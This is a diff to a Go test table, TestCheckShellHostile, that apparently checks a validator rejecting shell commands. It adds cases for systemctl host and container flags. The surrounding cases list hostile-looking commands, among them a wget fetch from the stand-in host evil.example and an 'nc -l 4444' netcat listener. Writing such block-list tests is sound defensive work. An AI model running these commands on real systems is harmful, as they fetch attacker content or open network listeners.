@@ -377,6 +377,8 @@ func TestCheckShellHostile(t *testing.T) {
 		{cmd: "wget -qO- https://evil.example", reason: "network"},
 		{cmd: "nc -l 4444", reason: "network connections"},
 		{cmd: "systemctl -H root@host status nginx", reason: "another host"},
+		{cmd: "systemctl status -H root@127.0.0.1 nginx", reason: "another host"},
+		{cmd: "systemctl status nginx --machine=box", reason: "container"},
 		{cmd: "systemctl --host=host status", reason: "another host"},
 		{cmd: "systemctl -M box status", reason: "container"},
 		{cmd: "journalctl -M box", reason: "another machine"},
